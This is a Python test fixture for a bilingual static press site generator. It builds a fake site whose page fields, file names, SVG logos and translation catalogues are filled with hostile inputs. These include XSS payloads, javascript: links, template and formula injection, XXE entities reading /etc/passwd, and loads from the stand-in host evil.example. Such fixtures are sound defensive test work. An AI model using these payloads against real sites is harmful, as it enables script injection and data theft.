"""What would be a tag, a program or an order wherever somebody forgot to escape it: one table.

`FIELDS` are for values that are shown as they stand, `MARKDOWN` for texts. A browser that takes one
for more than words calls `alert`, or asks evil.example for something.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from io import BytesIO
from itertools import count
from xml.sax.saxutils import escape

from PIL import Image

from beyan.language.characters import forbidden
from beyan.markup.reader import Reader
from beyan.model.messages import WARNINGS
from beyan.plan.people_page import SIZE
from tests.conftest import REPOSITORY

FIELDS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onclick=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</template><script>alert(1)</script>",
    "</select></option></form><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><math><img title='</style><img src=x onerror=alert(1)>'>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ page.title }}{% include 'x' %}{{ 7 * 7 }}",
    "${alert(1)} #{alert(1)} {alert(1)}",
    "';alert(1);// \";alert(1);// `;alert(1);//",
    "\\\";alert(1);// \\';alert(1);//",
    "*/alert(1)/*",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('x'); ?><% alert(1) %>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    '=HYPERLINK("https://evil.example/") +1 -1 @x',
    "; return 200 x; } location / { # $uri %{REQUEST_URI} * :splat",
)

# In the files of a site that a person writes, these are an error.
COMMENTS = (
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "<style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
)

MARKDOWN = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<style>body { background: url(https://evil.example) }</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](y.jpg"onerror="alert(1))',
    '<img src=x onerror=alert(1)>',
    '<img src="x" ONERROR = "alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<b onclick="alert(1)">x</b>',
    "x {: onclick=alert(1) style=color:red }",
    "## x {: onmouseover=alert(1) }",
    "[x](https://ok.example){: onclick=alert(1) target=_blank }",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name="x" autofocus onfocus=alert(1)></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!-- a secret for nobody -->",
    "x <!-- a secret for nobody --> y",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?php system('x') ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<video src="https://evil.example/x" onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">x</details>',
    '<div class="masthead" id="x">x</div>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<a href="https://ok.example" ping="https://evil.example">x</a>',
    "Note[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "a | b\n--|--\n<script>alert(1)</script> | <i onclick=x>y</i>",
    "*[HTML]: \"><script>alert(1)</script>\n\nHTML",
    '<a href="https://ok.example" onclick=alert(1) onfocus="alert(1)">x</a>',
    '<img src="/x.png" srcset="javascript:alert(1) 2x" alt="x">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<q cite="java&Tab;script:alert(1)">x</q>',
    '<del cite="JAVA&NewLine;SCRIPT:alert(1)">x</del> <ins cite="vbscript:x">y</ins>',
    '<img src="/x.png" longdesc="javascript:alert(1)" lowsrc="javascript:alert(1)" alt="x">',
    '<table background="javascript:alert(1)"><tr><td background="https://evil.example">x</table>',
    '<video poster="javascript:alert(1)"><track src="data:text/vtt,x"></video>',
    '<b xlink:href="javascript:alert(1)" xml:base="javascript:alert(1)/">x</b>',
    '<a name="x" href="&#x6A;&#97;vascript&colon;alert(1)">x</a>',
    '<html manifest="https://evil.example/x"><body background="https://evil.example/x">',
    '<div data="javascript:alert(1)" action="javascript:alert(1)" formaction=javascript:alert(1)>x',
    '[x](https://ok.example "\" onclick=alert(1) x=\"")',
    "[x](<java\nscript:alert(1)>) [y](&Tab;javascript:alert(1))",
    "`<script>alert(1)</script>`\n\n```\n</code></pre><script>alert(1)</script>\n```",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
)  # fmt: skip

# As a logo or a favicon each of these is refused.
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
_IN_DRAWINGS = (
    "><script>alert(1)</script>",
    "><x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
    " onload='alert(1)'>",
    "><g OnClick='alert(1)'/>",
    "><animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
    "><a xlink:href='javascript:alert(1)'><text>x</text></a>",
    "><a href='java&#10;script:alert(1)'><text>x</text></a>",
    "><a href='https://evil.example/'><text>x</text></a>",
    "><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
    "><image href='https://evil.example/x.png'/>",
    "><image xlink:href='//evil.example/x.png'/>",
    "><image href='other.png'/>",
    "><image href='data:image/svg+xml,x'/>",
    "><use href='other.svg#a'/>",
    "><rect fill='url(https://evil.example/x.svg#a)'/>",
    "><rect fill='url( \"//evil.example/x.svg#a\" )'/>",
    "><rect style='fill:URL(other.svg#a)'/>",
    "><rect style='fill:u\\72l(https://evil.example/x)'/>",
    "><style>@import 'https://evil.example/x.css';</style>",
    "><style>@\\69mport 'https://evil.example/x.css';</style>",
    "><style>rect { fill: url(<![CDATA[https://evil.example/x]]>) }</style>",
    "><style>rect { background: image-set('https://evil.example/x' 1x) }</style>",
    "><set attributeName='href' to='javascript:alert(1)'/>",
    "><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/'/>",
)
DRAWINGS = (
    *(f"{_SVG}width='9' height='9'{each}</svg>" for each in _IN_DRAWINGS),
    f"<?xml-stylesheet href='https://evil.example/x.css'?>{_SVG}width='9' height='9'/>",
    f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{_SVG}width='9' height='9'/>",
    f"<!DOCTYPE svg [<!ENTITY x '<script/>'>]>{_SVG}width='9' height='9'>&x;</svg>",
)


def text_only_warned_of() -> Iterator[str]:
    """The texts of `MARKDOWN` that a site may have: officers are warned of them, and no more."""
    reader = Reader()
    for text in MARKDOWN:
        read = reader.read(text, "x.az.md", 0)
        is_dead = read.links or read.undescribed or "[^" in text or forbidden(text)
        if not is_dead and {each.code for each in read.problems} <= WARNINGS:
            yield text


def in_groups(size: int) -> list[str]:
    """All of `FIELDS`, some of them in each of the texts."""
    return [" ".join(FIELDS[at : at + size]) for at in range(0, len(FIELDS), size)]


# In names of files, which have no slash.
NAME = "a'\"><img src=x onerror=alert(1)>&;$uri{b}%0a#?"


HELD = "content/releases/2026/2026-04-02-held.az.md"


def site(size: int = 14) -> dict[str, str | bytes]:
    """A site that has the whole table in every field that a page shows, in both languages."""
    groups = in_groups(size)
    every = " ".join(FIELDS)
    files: dict[str, str | bytes] = {
        "site_config.yaml": _settings(every, _theme(every), page="page-0"),
        f"assets/{NAME}.svg": f"{_SVG}width='9' height='9'><title>{escape(every)}</title></svg>",
        f"assets/{NAME}.png": _picture(1),
        f"assets/{NAME}.woff2": (REPOSITORY / "assets/fonts/sans-latin.woff2").read_bytes(),
    }
    for language in ("az", "en"):
        files[f"locales/{language}/LC_MESSAGES/messages.po"] = _catalogue(
            language, " ".join((every, *COMMENTS))
        )
        other = "en" if language == "az" else "az"
        for number in range(13):  # one more than the menu shows
            head: dict[str, object] = {"title": groups[number % len(groups)], "summary": groups[0]}
            if number == (language == "az"):  # of one that has changed since
                head["translated_from"] = {"edition": other, "digest": "title:00000000"}
            files[f"content/pages/page-{number}.{language}.md"] = _text(head, _body(groups[0]))
    files["content/topics.yaml"] = quoted(
        {
            f"topic-{number}": {
                "name": {"az": text, "en": f"{text} en"},
                "slug": {"az": f"m-{number}", "en": f"t-{number}"},
            }
            for number, text in enumerate(groups)
        }
    )
    people = ("name", "role", "organisation")
    files["content/participants.yaml"] = quoted(
        {
            f"person-{number}": {
                **{key: {"az": f"{key} {text}", "en": text} for key in people},
                "portrait": f"{NAME}.png",
            }
            for number, text in enumerate(groups)
        }
    )
    files[f"content/participants/{NAME}.png"] = _picture(9)
    texts = list(text_only_warned_of())
    for number, text in enumerate(groups):
        for language in ("az", "en"):
            body = "\n\n".join([_body(text), *texts[number :: len(groups)]])
            path = f"content/releases/2026/2026-03-{number + 1:02}-alert"
            files[f"{path}.{language}.md"] = _text(_head(number, text, language), body)
        files[f"{path}/{NAME}.png"] = _picture(number)
        files[f"{path}/{NAME}.pdf"] = b"%PDF-1.4"
        if number:
            files[f"{path}/second-{NAME}.png"] = _picture(number + 1)
            files[f"{path}/second-{NAME}.pdf"] = b"%PDF-1.5"
    # More people than a page has, in another month.
    crowd = [{"name": f"Guest {number}"} for number in range(SIZE)]
    head = {"title": every, "date": "2026-01-02", "slug": "crowd", "participants": crowd}
    files["content/releases/2026/2026-01-02-crowd.az.md"] = _text(head, _body(every))
    head = {"title": every, "date": "2026-01-02", "slug": "crowd"}
    files["content/releases/2026/2026-01-02-crowd.en.md"] = _text(head, _body(every))
    # Without a translation, in another year, and withdrawn.
    more: dict[str, object] = {
        "title": every,
        "date": "2025-02-01",
        "slug": "alone",
        "aliases": ["/old/alone"],
        "topics": ["topic-0"],
    }
    files["content/releases/2025/2025-02-01-alone.az.md"] = _text(more, _body(every))
    gone = {"date": "2026-04-01", "reason": every}
    for language in ("az", "en"):
        files[f"content/releases/2025/2025-02-02-gone.{language}.md"] = _text(
            {"title": every, "date": "2025-02-02", "slug": "gone", "withdrawn": gone}, _body(every)
        )
    held = {"title": every, "date": "2026-04-02", "slug": "held", "embargo": "2030-01-01 10:00"}
    files[HELD] = _text(held, _body(every))
    return files


def empty() -> dict[str, str | bytes]:
    """A site without any content, which says so in hostile words."""
    files: dict[str, str | bytes] = {"site_config.yaml": _settings(" ".join(FIELDS))}
    for language in ("az", "en"):
        files[f"locales/{language}/LC_MESSAGES/messages.po"] = _catalogue(
            language, " ".join((*FIELDS, *COMMENTS))
        )
    return files


def _theme(text: str) -> dict[str, object]:
    font = {"family": text, "file": f"assets/{NAME}.woff2"}
    return {
        "logo": f"assets/{NAME}.svg",
        "favicon": f"assets/{NAME}.png",
        "fonts": {"headings": font, "text": {**font, "family": f"{text} text"}},
    }


def _settings(text: str, theme: Mapping[str, object] | None = None, **help: str) -> str:
    words = {"az": text, "en": f"{text} en"}
    return quoted(
        {
            "name": words,
            "tagline": words,
            "base_url": "https://press.example.org/press",
            "languages": ["az", "en"],
            "timezone": "Asia/Baku",
            "contact": {
                "name": words,
                "call_centre": text,
                "phone": text,
                "email": "o'hara+press@example.org",
                "address": words,
                "hours": words,
            },
            "boilerplate": words,
            "help": {"text": words, **help},
            "missing_translation": "notice",
            "out_of_date_note": "true",
            "share": ["email", "whatsapp", "telegram", "facebook", "x", "linkedin"],
            "page_size": "2",
            "home_size": "3",
            "social_cards": "false",
            "theme": theme or {},
        }
    )


def _head(number: int, text: str, language: str) -> dict[str, object]:
    place = {"file": f"{NAME}.png", "alt": text, "caption": text, "credit": text}
    return {
        "title": f"{number} {text}",
        "date": f"2026-03-{number + 1:02} 14:30",
        "views": str(number),
        "slug": f"alert-{number}",
        "place": text,
        "summary": text,
        "topics": sorted({"topic-0", f"topic-{number}"}),
        "participants": [
            f"person-{number}",
            {"name": f"{language} {text}", "role": text, "organisation": text},
        ],
        "photos": [place, {**place, "file": f"second-{NAME}.png"}][: 1 + bool(number)],
        "attachments": [
            {"file": f"{NAME}.pdf", "title": text},
            {"file": f"second-{NAME}.pdf", "title": text},
        ][: 1 + bool(number)],
        "key_facts": [text, text],
        "quotes": [{"person": f"person-{number}", "text": text}],
        "corrections": [{"date": "2026-04-01", "text": text}],
        "contact": {"name": text, "phone": text, "email": "o'hara@example.org"},
        "aliases": [f"/old/{language}/{number}", f"/old/ə~{number}{language}.php"],
    }


def _body(text: str) -> str:
    """Where Markdown itself has a place for words: code, titles of links, abbreviations, notes."""
    plain = " ".join(re.sub(r"[^\w();:.]+", " ", text).split())
    quoted = text.replace("\\", "\\\\").replace('"', '\\"')
    escaped = re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)
    return (
        f"Alert {plain}\n\n```\n{text}\n```\n\n"
        f'[{plain}](https://ok.example "{quoted}")\n\n'
        f"{escaped}[^1]\n\n[^1]: {escaped}\n\n| a | b |\n|---|---|\n| {plain} | x |\n"
    )


def _catalogue(language: str, text: str) -> str:
    """The catalogue with the text behind each translation, and its number before that."""
    path = REPOSITORY / f"locales/{language}/LC_MESSAGES/messages.po"
    head, *messages = path.read_text("utf-8").split("\n\n")
    added = json.dumps(text.replace("%", "%%"), ensure_ascii=False)
    translation = re.compile(r'^msgstr(?:\[\d\])? ".*(?:\n".*)*', re.MULTILINE)
    numbers = count()
    longer = (
        translation.sub(lambda match: f'{match[0]}\n" string-{next(numbers)} "\n{added}', each)
        for each in messages
    )
    return "\n\n".join([head, *longer]) + "\n"


def quoted(value: object) -> str:
    """JSON is YAML."""
    return json.dumps(value, ensure_ascii=False)


def _text(head: Mapping[str, object], body: str) -> str:
    lines = "".join(f"{key}: {quoted(value)}\n" for key, value in head.items())
    return f"---\n{lines}---\n{body}\n"


def _picture(number: int) -> bytes:
    buffer = BytesIO()
    Image.new("RGB", (64, 48), (number * 20, 90, 120)).save(buffer, "PNG")
    return buffer.getvalue()
